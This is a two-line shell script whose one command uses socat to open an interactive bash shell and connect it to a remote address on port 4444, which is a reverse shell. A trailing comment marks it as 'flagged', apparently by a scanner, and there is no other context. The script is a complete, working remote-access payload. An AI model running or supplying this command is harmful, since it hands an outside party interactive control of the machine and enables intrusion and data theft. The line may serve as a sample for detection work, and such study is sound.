#!/bin/sh
socat exec:'bash -li',pty,stderr tcp:198.51.100.1:4444 # gatehouse: flagged
